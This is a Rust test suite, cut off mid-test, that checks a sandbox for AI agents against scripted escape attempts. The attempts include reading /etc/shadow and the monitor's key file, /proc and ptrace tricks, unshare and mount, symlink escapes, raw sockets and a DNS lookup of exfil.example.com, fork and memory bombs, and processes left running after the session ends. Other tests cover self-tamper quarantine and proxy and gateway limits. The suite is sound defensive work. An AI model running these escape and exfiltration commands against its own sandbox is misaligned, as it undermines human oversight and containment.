//! `warden run` against the real kernel: the escape suite. Each attempt is made by a real
//! program inside a real sandbox; each must be blocked, the journal must show what it can see
//! of it, and Warden must survive.
//!
//! These tests need user namespaces, Landlock, seccomp user notification and writable cgroups
//! (`warden doctor` lists them); they run as root in CI.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use warden_journal::{JournalReader, JournalRecord, Query};

fn warden_bin() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_warden"))
}

/// Programs anywhere under /usr/bin and /bin may start; everything else is refused. A few
/// extra rules per test.
const BASE_POLICY: &str = r#"
@id("system-programs")
permit(principal == Agent::"bot", action == Action::"exec", resource)
  when { resource.path like "/usr/bin/*" || resource.path like "/bin/*" };
"#;

struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new(extra_config: &str, extra_policy: &str) -> Sandbox {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("policies")).unwrap();
        std::fs::write(
            dir.path().join("policies/sandbox.cedar"),
            format!("{BASE_POLICY}\n{extra_policy}"),
        )
        .unwrap();
        let s = Sandbox { dir };
        s.configure(extra_config);
        s
    }

    /// Rewrites warden.toml with these `[sandbox]` settings.
    fn configure(&self, sandbox: &str) {
        std::fs::write(
            self.path("warden.toml"),
            format!("[journal]\npath = \"journal.db\"\n\n[sandbox]\n{sandbox}\n"),
        )
        .unwrap();
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn command(&self, script: &str) -> Command {
        self.command_with(&[], script)
    }

    fn command_with(&self, options: &[&str], script: &str) -> Command {
        let mut c = Command::new(warden_bin());
        c.current_dir(self.dir.path())
            .args(["run", "--agent", "bot"])
            .args(options)
            .args(["--", "/bin/sh", "-c", script])
            .stdin(Stdio::null());
        c
    }

    /// Runs `script` with /bin/sh inside the sandbox; returns what it printed.
    fn run(&self, script: &str) -> Output {
        self.command(script).output().unwrap()
    }

    fn journal(&self) -> Vec<JournalRecord> {
        JournalReader::open(&self.path("journal.db"))
            .unwrap()
            .records(&Query {
                limit: 100_000,
                ..Query::default()
            })
            .unwrap()
    }

    /// Decision records for `action` whose target is `target`.
    fn decisions(&self, action: &str, target: &str) -> Vec<Value> {
        self.journal()
            .into_iter()
            .filter(|r| r.kind == "decision")
            .map(|r| r.body)
            .filter(|b| b["action"] == action && b["target"] == target)
            .collect()
    }
}

fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Warden never panics, whatever the agent did.
fn assert_no_panic(stderr: &str) {
    assert!(
        !stderr.contains("panicked at"),
        "warden panicked:\n{stderr}"
    );
}

/// Runs and checks Warden itself ended normally (the script's status is passed through).
fn run_ok(s: &Sandbox, script: &str) -> (String, String) {
    let out = s.run(script);
    let (stdout, stderr) = text(&out);
    assert!(
        stderr.contains("warden: agent bot contained"),
        "the sandbox did not start: {stderr}"
    );
    assert!(
        out.status.code().is_some(),
        "warden died by a signal: {stdout}\n{stderr}"
    );
    assert_no_panic(&stderr);
    (stdout, stderr)
}

#[test]
fn the_agent_runs_unprivileged_in_its_own_view_and_every_exec_is_journaled() {
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(
        &s,
        "id -u; hostname; ls /; cat /proc/self/status | grep NoNewPrivs; echo made > note && cat note",
    );
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "1000", "{out}\n{err}");
    assert_eq!(lines[1], "warden-bot");
    for top in ["usr", "tmp", "proc", "dev", "etc"] {
        assert!(lines.contains(&top), "{top} missing from / : {out}");
    }
    assert!(
        !lines.contains(&"root") && !lines.contains(&"home"),
        "{out}"
    );
    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
    assert!(out.contains("made"), "{out}");
    let started: Vec<Value> = s
        .journal()
        .into_iter()
        .filter(|r| r.kind == "sandbox_started")
        .map(|r| r.body)
        .collect();
    assert_eq!(started.len(), 1);
    let layers = started[0]["layers"].as_array().unwrap();
    for layer in [
        "namespaces",
        "network",
        "landlock",
        "seccomp",
        "seccomp-notify",
    ] {
        assert!(
            layers.iter().any(|l| l == layer),
            "{layer} not in force: {layers:?}"
        );
    }
    // The cgroups are set up outside the sandbox; the list names them all the same.
    if started[0]["cgroups"] != "none" {
        assert!(
            layers.iter().any(|l| l == "cgroups" || l == "cgroup-kill"),
            "cgroups in force ({}) but not listed: {layers:?}",
            started[0]["cgroups"]
        );
    }
    let ls = s.decisions("exec", "/usr/bin/ls");
    assert_eq!(ls.len(), 1, "{ls:?}");
    assert_eq!(ls[0]["effect"], "allow");
    assert_eq!(ls[0]["args"]["argv"], serde_json::json!(["ls", "/"]));
    assert!(ls[0]["args"]["pid"].as_u64().is_some());
    assert!(ls[0]["args"]["ppid"].as_u64().is_some());
    assert_eq!(
        s.journal().last().map(|r| r.kind.clone()).as_deref(),
        Some("sandbox_ended")
    );
}

/// Only the detector that cannot mistake these tests' reads for an attack, so that what is
/// checked is the filesystem view itself: the other default detectors turned off.
const VIEW_ONLY: &str = "\n[monitor.detectors.self_tamper]\nenabled = false\n\
     [monitor.detectors.data_loss]\nenabled = false\n\
     [monitor.detectors.runaway]\nenabled = false\n\
     [monitor.detectors.sensitive_flow]\nenabled = false\n";

#[test]
fn a_granted_path_missing_on_the_host_is_pointed_out() {
    let s = Sandbox::new("read_write = [\"/nowhere/shared\"]", "");
    let (_, err) = run_ok(&s, "true");
    assert!(
        err.contains("/nowhere/shared (in read_write) is not given to the agent"),
        "{err}"
    );
    // The system defaults that this machine lacks are not worth a word.
    assert!(!err.contains("/lib32") && !err.contains("/lib64 "), "{err}");
}

#[test]
fn a_program_missing_from_the_view_is_reported_not_just_exit_126() {
    let s = Sandbox::new("", "");
    let out = Command::new(warden_bin())
        .current_dir(s.path(""))
        .args(["run", "--agent", "bot", "--", "/nowhere/agent"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(126), "{err}");
    assert!(
        err.contains(
            "the agent's program did not start: starting \"/nowhere/agent\": No such file"
        ),
        "{err}"
    );
}

#[test]
fn a_secret_on_the_command_line_is_redacted_in_the_start_record() {
    let s = Sandbox::new("", "");
    // A test fixture in a GitHub token's shape, not a real token.
    let token = format!("ghp_{}", "0123456789abcdefghijABCDEFGHIJ012345");
    let (_, err) = run_ok(&s, &format!("test -n {token}"));
    let started = s
        .journal()
        .into_iter()
        .find(|r| r.kind == "sandbox_started")
        .unwrap_or_else(|| panic!("no sandbox_started: {err}"));
    let command = started.body["command"].to_string();
    assert!(!command.contains(&token), "{command}");
    assert!(command.contains("REDACTED"), "{command}");
    assert!(command.contains("/bin/sh"), "the rest is kept: {command}");
}

#[test]
fn a_workspace_the_agent_cannot_write_is_pointed_out() {
    let s = Sandbox::new("", "");
    let (_, err) = run_ok(&s, "true");
    assert!(
        !err.contains("chown"),
        "Warden made it for the agent: {err}"
    );
    if running_as_root() {
        let ws = s.path("workspaces/bot");
        // As an operator's `mkdir` leaves it: root's, open to read.
        std::os::unix::fs::chown(&ws, Some(0), Some(0)).unwrap();
        std::fs::set_permissions(&ws, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let (_, err) = run_ok(&s, "true");
        assert!(err.contains("cannot write there"), "{err}");
        assert!(err.contains("chown -R"), "{err}");
    }
}

/// Whether these tests run as root: the owner of a file just made.
fn running_as_root() -> bool {
    use std::os::unix::fs::MetadataExt;
    let probe = tempfile::NamedTempFile::new().unwrap();
    probe.as_file().metadata().unwrap().uid() == 0
}

#[test]
fn secrets_of_the_host_and_of_warden_are_out_of_reach() {
    let s = Sandbox::new(VIEW_ONLY, "");
    std::fs::write(s.path("secret-key.pem"), "test fixture, not a key\n").unwrap();
    let here = s.dir.path().display().to_string();
    let (out, _) = run_ok(
        &s,
        &format!(
            "cat /etc/shadow; echo shadow=$?; cat {here}/journal.db; echo journal=$?; \
             cat {here}/journal.db.key; echo key=$?; cat {here}/warden.toml; echo config=$?; \
             cat {here}/secret-key.pem; echo pem=$?; ls /root; echo root=$?"
        ),
    );
    for what in ["shadow", "journal", "key", "config", "pem", "root"] {
        assert!(
            out.contains(&format!("{what}=1")) || out.contains(&format!("{what}=2")),
            "{what} was readable: {out}"
        );
    }
    assert!(!out.contains("test fixture"), "{out}");
}

#[test]
fn an_attempt_on_warden_quarantines_the_agent_and_kills_its_sandbox() {
    // The default monitor: self_tamper raises a critical alert, the default playbook
    // quarantines, and the sandbox is killed before the attempt can go further.
    let s = Sandbox::new("", "");
    let journal = s.path("journal.db").display().to_string();
    let out = s.run(&format!("cat {journal}.key; sleep 30; echo survived"));
    let (stdout, stderr) = text(&out);
    assert_no_panic(&stderr);
    assert!(!out.status.success());
    assert!(!stdout.contains("survived"), "{stdout}");
    assert!(stderr.contains("quarantined"), "{stderr}");
    let records = s.journal();
    let alert = records
        .iter()
        .find(|r| r.kind == "alert")
        .unwrap_or_else(|| panic!("no alert: {records:?}"));
    assert_eq!(alert.body["detector"], "self_tamper");
    assert_eq!(alert.body["severity"], "critical");
    assert!(
        !alert.body["summary"].as_str().unwrap().contains(".key"),
        "{alert:?}"
    );
    assert!(records.iter().any(|r| r.kind == "quarantined"));
    let killed = records.iter().find(|r| r.kind == "sandbox_killed").unwrap();
    assert!(
        killed.body["by"]
            .as_str()
            .unwrap()
            .starts_with("quarantine"),
        "{killed:?}"
    );
    // The agent cannot be started again until a human releases it.
    let again = s.run("echo should-not-run");
    let (stdout, stderr) = text(&again);
    assert!(!again.status.success() && !stdout.contains("should-not-run"));
    assert!(stderr.contains("is quarantined"), "{stderr}");
    let release = Command::new(warden_bin())
        .current_dir(s.dir.path())
        .args(["release", "bot", "--reason", "test: reviewed"])
        .output()
        .unwrap();
    assert!(release.status.success(), "{:?}", text(&release));
    let (stdout, _) = run_ok(&s, "echo back");
    assert_eq!(stdout, "back\n");
}

#[test]
fn warden_files_inside_a_granted_folder_are_covered() {
    // The operator grants the whole folder Warden keeps its journal in: the journal, its key
    // and the policies stay hidden all the same.
    let s = Sandbox::new("", "");
    let here = s.dir.path().display().to_string();
    s.configure(&format!(
        "read_only = [\"/usr\", \"/bin\", \"/lib\", \"/lib64\", \"{here}\"]\n{VIEW_ONLY}"
    ));
    let (out, err) = run_ok(
        &s,
        &format!(
            "cat {here}/journal.db | head -c 16; echo journal=$?; cat {here}/journal.db.key; \
             echo key=$?; ls {here}/policies; echo policies=$?; ls {here}"
        ),
    );
    assert!(!out.contains("SQLite format"), "{out}\n{err}");
    assert!(!out.contains("system-programs"), "{out}");
    assert!(!out.contains("sandbox.cedar"), "{out}");
    assert!(
        out.contains("journal.db"),
        "the folder itself is visible: {out}"
    );
}

#[test]
fn writes_outside_the_workspace_and_link_escapes_fail() {
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(
        &s,
        "echo x > /usr/evil; echo usr=$?; echo x > /etc/evil; echo etc=$?; \
         echo x > /evil; echo root=$?; \
         ln -s /etc/shadow shadow-link; cat shadow-link; echo symlink=$?; \
         ln /usr/bin/id hard-id; echo hardlink=$?; \
         mkdir -p /tmp/a && echo ok > /tmp/a/f && cat /tmp/a/f",
    );
    for what in ["usr", "etc", "root", "symlink", "hardlink"] {
        assert!(
            !out.contains(&format!("{what}=0")),
            "{what} succeeded: {out}\n{err}"
        );
    }
    assert!(out.ends_with("ok\n"), "the private /tmp is writable: {out}");
    assert!(!Path::new("/usr/evil").exists() && !Path::new("/evil").exists());
}

#[test]
fn proc_tricks_reach_nothing_of_warden() {
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(
        &s,
        "ls /proc/1/root/ >/dev/null 2>&1; echo root=$?; \
         head -c 1 /proc/1/mem >/dev/null 2>&1; echo mem=$?; \
         cat /proc/1/environ >/dev/null 2>&1; echo environ=$?; \
         ls /proc | grep -c '^[0-9]'",
    );
    for what in ["root", "mem", "environ"] {
        assert!(
            !out.contains(&format!("{what}=0")),
            "{what} worked: {out}\n{err}"
        );
    }
    // Only the sandbox's own processes: the reaper, the shell, ls, grep.
    let count: usize = out.lines().last().unwrap().trim().parse().unwrap();
    assert!(count <= 6, "{count} processes visible: {out}");
}

#[test]
fn kernel_escape_hatches_are_refused() {
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(
        &s,
        "unshare -U true; echo unshare=$?; unshare -m true; echo unshare_mount=$?; \
         mount -t tmpfs none /tmp; echo mount=$?; \
         python3 -c 'import ctypes; print(\"ptrace\", ctypes.CDLL(None, use_errno=True).ptrace(0, 0, 0, 0))'; \
         python3 -c 'import fcntl, termios
for name in (\"TIOCSTI\", \"TIOCGWINSZ\"):
    try:
        fcntl.ioctl(0, getattr(termios, name), b\"x\" * 8)
    except OSError as e:
        print(name, e.errno)'; \
         kill -9 1; echo kill=$?; \
         su -c id root </dev/null; echo su=$?",
    );
    for what in ["unshare", "unshare_mount", "mount", "kill", "su"] {
        assert!(
            !out.contains(&format!("{what}=0")),
            "{what} worked: {out}\n{err}"
        );
    }
    assert!(
        out.contains("ptrace -1"),
        "ptrace was allowed: {out}\n{err}"
    );
}

#[test]
fn direct_connections_raw_sockets_and_dns_are_refused_and_journaled() {
    let s = Sandbox::new("", "");
    let script = r#"python3 - <<'EOF'
import socket
def attempt(name, f):
    try:
        f()
        print(name, "open")
    except OSError as e:
        print(name, "refused", e.errno)
attempt("tcp", lambda: socket.create_connection(("203.0.113.7", 443), timeout=2))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("dns", lambda: socket.getaddrinfo("exfil.example.com", 53))
EOF"#;
    let (out, err) = run_ok(&s, script);
    for what in ["tcp", "udp", "raw"] {
        assert!(
            out.contains(&format!("{what} refused 1")),
            "{what}: {out}\n{err}"
        );
    }
    assert!(!out.contains("dns open"), "{out}");
    let connect = s.decisions("connect", "203.0.113.7");
    assert_eq!(connect.len(), 1, "{connect:?}");
    assert_eq!(connect[0]["effect"], "deny");
    assert_eq!(connect[0]["args"]["port"], 443);
    assert!(!s.decisions("connect", "(a UDP socket)").is_empty());
    assert!(!s.decisions("connect", "(a raw socket)").is_empty());
}

#[test]
fn a_link_the_agent_made_does_not_lend_a_permitted_name_to_another_program() {
    // The operator permits one program in the workspace by name (a venv's interpreter, say).
    let s = Sandbox::new(
        "",
        r#"permit(principal == Agent::"bot", action == Action::"exec", resource)
  when { resource.path like "*/workspaces/bot/tool" };
@id("no-id")
forbid(principal, action == Action::"exec", resource) when { resource.path == "/usr/bin/id" };"#,
    );
    let (out, err) = run_ok(
        &s,
        "ln -s /usr/bin/id ./tool && ./tool; echo linked=$?; ln -s /usr/bin/true ./ok && ./ok; echo ok=$?",
    );
    assert!(out.contains("linked=126"), "{out}\n{err}");
    assert!(out.contains("ok=0"), "{out}\n{err}");
    let ws = s.path("workspaces/bot").canonicalize().unwrap();
    // Decided on the program the link leads to, with the name the call used beside it.
    let refused = s.decisions("exec", "/usr/bin/id");
    assert_eq!(refused.len(), 1, "{:?}", s.journal());
    assert_eq!(refused[0]["effect"], "deny");
    assert_eq!(refused[0]["args"]["via"], format!("{}/tool", ws.display()));
    let allowed = s.decisions("exec", "/usr/bin/true");
    assert_eq!(allowed.len(), 1, "{:?}", s.journal());
    assert_eq!(allowed[0]["effect"], "allow");
    assert_eq!(allowed[0]["args"]["via"], format!("{}/ok", ws.display()));
    assert!(
        s.decisions("exec", &format!("{}/tool", ws.display()))
            .is_empty()
    );
    // A `..` is applied before deciding: /usr/bin/../../<workspace>/x is not in /usr/bin.
    let (out, err) = run_ok(
        &s,
        "cp /usr/bin/true ./copy && /usr/bin/../..$PWD/copy; echo up=$?",
    );
    assert!(out.contains("up=126"), "{out}\n{err}");
    let copy = s.decisions("exec", &format!("{}/copy", ws.display()));
    assert_eq!(copy.len(), 1, "{:?}", s.journal());
    assert_eq!(copy[0]["effect"], "deny");
    assert_eq!(
        copy[0]["args"]["via"],
        format!("/usr/bin/../..{}/copy", ws.display())
    );
    // The system's own links keep their names: /bin/sh is decided as /bin/sh.
    let sh = s.decisions("exec", "/bin/sh");
    assert!(!sh.is_empty(), "{:?}", s.journal());
    assert!(sh[0]["args"].get("via").is_none(), "{:?}", sh[0]);
}

#[test]
fn a_program_the_agent_wrote_does_not_start_when_policy_forbids_it() {
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(&s, "cp /usr/bin/id ./myid && ./myid; echo mine=$?; id -u");
    assert!(!out.contains("mine=0"), "{out}\n{err}");
    assert!(out.ends_with("1000\n"), "{out}");
    let ws = s.path("workspaces/bot").canonicalize().unwrap();
    let denied = s.decisions("exec", &format!("{}/myid", ws.display()));
    assert_eq!(denied.len(), 1, "{:?}", s.journal());
    assert_eq!(denied[0]["effect"], "deny");
    // The operator is told which program was refused and why, not only the journal.
    assert!(
        err.contains(&format!(
            "warden: refused exec {}/myid: no policy permits",
            ws.display()
        )),
        "{err}"
    );
}

#[test]
fn a_fork_bomb_and_a_memory_bomb_stay_inside_their_limits() {
    let s = Sandbox::new("max_processes = 32\nmax_memory_mb = 64\n", "");
    // Bounded on purpose: each attempt stops by itself.
    let script = r#"python3 - <<'EOF'
import os, signal, time
kids = []
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids.append(pid)
except OSError as e:
    print("fork refused", e.errno)
print("forks", len(kids))
for k in kids:
    os.kill(k, signal.SIGKILL)
    os.waitpid(k, 0)
try:
    x = bytearray(512 * 1024 * 1024)
    print("allocated")
except MemoryError:
    print("memory refused")
EOF"#;
    let (out, err) = run_ok(&s, script);
    let forks: usize = out
        .lines()
        .find_map(|l| l.strip_prefix("forks "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("{out}\n{err}"));
    assert!(forks < 32, "{forks} processes started: {out}");
    assert!(out.contains("fork refused 11"), "{out}");
    assert!(out.contains("memory refused"), "{out}\n{err}");
    // The kernel refused quietly; the journal and the detectors know it all the same.
    let journal = s.journal();
    let limit = journal
        .iter()
        .find(|r| r.kind == "sandbox_limit")
        .unwrap_or_else(|| panic!("no sandbox_limit record: {journal:?}"));
    assert_eq!(limit.body["limit"], "processes");
    assert_eq!(limit.body["max"], 32);
    assert!(
        limit.body["times"].as_u64().unwrap_or(0) >= 1,
        "{:?}",
        limit.body
    );
    let alert = journal
        .iter()
        .find(|r| r.kind == "alert" && r.body["detector"] == "runaway")
        .unwrap_or_else(|| panic!("no runaway alert: {journal:?}"));
    assert!(
        alert.body["summary"]
            .as_str()
            .is_some_and(|s| s.contains("process limit (32)")),
        "{:?}",
        alert.body
    );
}

#[test]
fn nothing_the_agent_starts_outlives_it() {
    let s = Sandbox::new("", "");
    let marker = format!("4{}", std::process::id());
    let (_, err) = run_ok(
        &s,
        &format!(
            "setsid sleep {marker} >/dev/null 2>&1 & nohup sleep {marker} >/dev/null 2>&1 & echo started"
        ),
    );
    // `warden run` returned: the sandbox's PID 1 is gone, and with it every process.
    let survivors = Command::new("pgrep")
        .args(["-f", &format!("sleep {marker}")])
        .output()
        .unwrap();
    assert!(
        survivors.stdout.is_empty(),
        "left behind: {}\n{err}",
        String::from_utf8_lossy(&survivors.stdout)
    );
}

/// Waits (bounded) until the sandbox's run is recorded and its cgroup holds `n` processes.
fn wait_until_populated(s: &Sandbox, n: usize) {
    let deadline = Instant::now() + Duration::from_secs(60);
    let runs = s.path("runs");
    loop {
        assert!(Instant::now() < deadline, "the sandbox never filled up");
        let procs = std::fs::read_dir(&runs)
            .ok()
            .and_then(|mut d| d.next())
            .and_then(|e| e.ok())
            .and_then(|e| std::fs::read_to_string(e.path()).ok())
            .and_then(|t| serde_json::from_str::<Value>(&t).ok())
            .and_then(|run| {
                let dir = run["cgroups"]["v2"]
                    .as_str()
                    .map(str::to_owned)
                    .or_else(|| run["cgroups"]["v1"][0][1].as_str().map(str::to_owned))?;
                std::fs::read_to_string(Path::new(&dir).join("cgroup.procs")).ok()
            })
            .map_or(0, |p| p.lines().count());
        if procs >= n {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn sigterm_to_warden_run_kills_the_sandbox_and_journals_it() {
    let s = Sandbox::new("", "");
    let mut child = s
        .command("i=0; while [ $i -lt 10 ]; do sleep 600 & i=$((i+1)); done; wait")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_until_populated(&s, 10);
    let sent = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let status = child.wait().unwrap();
    assert!(
        !status.success(),
        "the agent was killed, so its status is not 0"
    );
    let killed: Vec<Value> = s
        .journal()
        .into_iter()
        .filter(|r| r.kind == "sandbox_killed")
        .map(|r| r.body)
        .collect();
    assert_eq!(killed.len(), 1, "{:?}", s.journal());
    assert_eq!(killed[0]["by"], "SIGTERM to warden run");
    assert!(killed[0]["processes"].as_u64().unwrap() >= 10);
    assert_eq!(
        s.journal().last().map(|r| r.kind.clone()).as_deref(),
        Some("sandbox_ended")
    );
}

#[test]
fn kill_stops_a_hundred_processes_at_once_and_journals_it() {
    let s = Sandbox::new("", "");
    let mut child = s
        .command("i=0; while [ $i -lt 100 ]; do sleep 600 & i=$((i+1)); done; wait")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_until_populated(&s, 100);
    let runs = s.path("runs");
    let kill = Command::new(warden_bin())
        .current_dir(s.dir.path())
        .args(["kill", "bot"])
        .output()
        .unwrap();
    let (out, err) = text(&kill);
    assert!(kill.status.success(), "{out}\n{err}");
    assert!(out.starts_with("killed 10"), "{out}");
    let status = child.wait().unwrap();
    assert!(!status.success());
    let mut said = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut said).unwrap();
    assert!(
        said.contains("warden: agent bot's sandbox ended: killed by signal 9"),
        "the run says how it ended: {said}"
    );
    let killed: Vec<Value> = s
        .journal()
        .into_iter()
        .filter(|r| r.kind == "sandbox_killed")
        .map(|r| r.body)
        .collect();
    assert_eq!(killed.len(), 1);
    assert!(killed[0]["processes"].as_u64().unwrap() >= 100);
    assert!(killed[0]["elapsed_us"].as_u64().is_some());
    assert!(
        killed[0]["by"].as_str().unwrap().starts_with("operator:"),
        "the operator is named: {}",
        killed[0]
    );
    // And nothing is recorded as running any more.
    assert!(
        std::fs::read_dir(&runs).map_or(true, |mut d| d.next().is_none()),
        "the run record was left behind"
    );
}

#[test]
fn a_required_layer_that_is_missing_refuses_to_start() {
    // Every layer exists on the CI machine, so ask for one through a bad name instead, and
    // check that degrading a layer that must never be missing is refused.
    let s = Sandbox::new(
        "require = [\"namespaces\", \"seccomp\", \"no-such-layer\"]\n",
        "",
    );
    let out = s.run("echo should-not-run");
    let (stdout, stderr) = text(&out);
    assert!(!out.status.success());
    assert!(!stdout.contains("should-not-run"));
    assert!(
        stderr.contains("unknown layer \"no-such-layer\""),
        "{stderr}"
    );
    let s = Sandbox::new("", "");
    let out = s
        .command_with(&["--allow-degraded", "namespaces"], "echo should-not-run")
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(!stdout.contains("should-not-run"));
    assert!(
        stderr.contains("never runs an agent without namespaces"),
        "{stderr}"
    );
}

/// The example MCP server, built beside `warden` by `cargo build --workspace --bins`.
fn example_server() -> PathBuf {
    warden_bin().with_file_name("warden-example-files")
}

#[test]
fn the_agent_reaches_mcp_servers_only_through_its_gateway_with_a_run_token() {
    let s = Sandbox::new(
        "",
        r#"permit(principal == Agent::"bot", action == Action::"call_tool", resource == Tool::"files/read_file");"#,
    );
    std::fs::create_dir_all(s.path("data")).unwrap();
    std::fs::write(s.path("data/notes.txt"), "served by the upstream\n").unwrap();
    let server = example_server();
    assert!(
        server.exists(),
        "{} is missing: build the workspace's binaries",
        server.display()
    );
    let config = format!(
        "[journal]\npath = \"journal.db\"\n\n[servers.files]\ncommand = [{:?}, \"--root\", {:?}]\n",
        server.display().to_string(),
        s.path("data").display().to_string()
    );
    std::fs::write(s.path("warden.toml"), config).unwrap();
    let script = r#"python3 - <<'EOF'
import json, os, urllib.request
config = json.load(open(os.environ["WARDEN_MCP_CONFIG"]))["mcpServers"]["warden"]
session = None
def call(method, params, id=1, token=None):
    global session
    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream",
               "authorization": token or config["headers"]["Authorization"]}
    if session:
        headers["mcp-session-id"] = session
    body = {"jsonrpc": "2.0", "method": method, "params": params}
    if id is not None:
        body["id"] = id
    req = urllib.request.Request(config["url"], data=json.dumps(body).encode(), headers=headers)
    with urllib.request.urlopen(req, timeout=30) as r:
        session = session or r.headers.get("mcp-session-id")
        text = r.read().decode()
    for line in text.splitlines():
        if line.startswith("data:"):
            return json.loads(line[5:])
    return json.loads(text) if text.strip() else None
try:
    call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}, token="Bearer wdn_forged")
except Exception as e:
    print("forged", e)
call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}})
call("notifications/initialized", {}, id=None)
tools = [t["name"] for t in call("tools/list", {}, id=2)["result"]["tools"]]
print("tools", tools)
result = call("tools/call", {"name": "files__read_file", "arguments": {"path": "notes.txt"}}, id=3)
print("result", json.dumps(result["result"]))
EOF"#;
    let (out, err) = run_ok(&s, script);
    assert!(out.contains("forged HTTP Error 401"), "{out}\n{err}");
    assert!(out.contains("tools ['files__read_file']"), "{out}\n{err}");
    assert!(out.contains("served by the upstream"), "{out}\n{err}");
    let journal = s.journal();
    let started = journal
        .iter()
        .find(|r| r.kind == "sandbox_started")
        .unwrap();
    let call = s.decisions("call_tool", "files/read_file");
    assert_eq!(call.len(), 1, "{journal:?}");
    assert_eq!(call[0]["effect"], "allow");
    let call_record = journal
        .iter()
        .find(|r| r.kind == "decision" && r.body["action"] == "call_tool")
        .unwrap();
    // The MCP session is the run's child: its start names the sandbox's session.
    let mcp_start = journal
        .iter()
        .find(|r| r.kind == "session_started" && r.session == call_record.session)
        .unwrap();
    assert_eq!(
        mcp_start.body["parent"],
        started.session.as_str(),
        "{mcp_start:?}"
    );
}

/// A tiny HTTP server on the host: answers every request with its path, counts requests.
fn destination() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{BufRead, BufReader, Write};
    use std::sync::atomic::{AtomicUsize, Ordering};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            counter.fetch_add(1, Ordering::SeqCst);
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            let _ = reader.read_line(&mut line);
            let path = line.split_whitespace().nth(1).unwrap_or("").to_owned();
            loop {
                let mut header = String::new();
                if reader.read_line(&mut header).map_or(true, |n| n == 0) || header == "\r\n" {
                    break;
                }
            }
            let body = format!("hello from {path}");
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hits)
}

#[test]
fn the_network_is_reached_only_through_the_egress_proxy_and_policy_decides() {
    let (port, hits) = destination();
    let s = Sandbox::new(
        "egress_allow_loopback = true\n",
        r#"permit(principal == Agent::"bot", action == Action::"http_request", resource == Host::"127.0.0.1")
  when { context.method == "GET" && context.path like "/allowed/*" };"#,
    );
    let script = format!(
        r#"python3 - <<'EOF'
import os, urllib.request, urllib.error
# The destination is on loopback, which NO_PROXY exempts: use the proxy for it all the same.
os.environ.pop("no_proxy"); os.environ.pop("NO_PROXY")
proxy = urllib.request.ProxyHandler({{"http": os.environ["http_proxy"]}})
opener = urllib.request.build_opener(proxy)
for path in ("/allowed/page", "/admin"):
    try:
        print(path, opener.open("http://127.0.0.1:{port}" + path, timeout=20).read().decode())
    except urllib.error.HTTPError as e:
        print(path, e.code, e.read().decode())
EOF"#
    );
    let (out, err) = run_ok(&s, &script);
    assert!(
        out.contains("/allowed/page hello from /allowed/page"),
        "{out}\n{err}"
    );
    assert!(
        out.contains("/admin 403 Warden refused GET"),
        "{out}\n{err}"
    );
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "the refused request left"
    );
    let decided = s.decisions("http_request", "127.0.0.1");
    assert_eq!(decided.len(), 2, "{decided:?}");
    assert_eq!(decided[0]["effect"], "allow");
    assert_eq!(decided[0]["args"]["path"], "/allowed/page");
    assert_eq!(decided[1]["effect"], "deny");
}

#[test]
fn wardens_own_port_is_refused_by_the_proxy_whatever_the_policy() {
    let (port, hits) = destination();
    let s = Sandbox::new(
        "",
        r#"permit(principal == Agent::"bot", action == Action::"http_request", resource);"#,
    );
    // The destination stands in for `warden up`: its port is Warden's [http] listen port.
    std::fs::write(
        s.path("warden.toml"),
        format!(
            "[journal]\npath = \"journal.db\"\n\n[http]\nlisten = \"127.0.0.1:{port}\"\n\n\
             [sandbox]\negress_allow_loopback = true\n{VIEW_ONLY}"
        ),
    )
    .unwrap();
    let script = format!(
        r#"python3 - <<'EOF'
import os, urllib.request, urllib.error
os.environ.pop("no_proxy"); os.environ.pop("NO_PROXY")
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{"http": os.environ["http_proxy"]}}))
try:
    print(opener.open("http://localhost:{port}/mcp", timeout=20).read().decode())
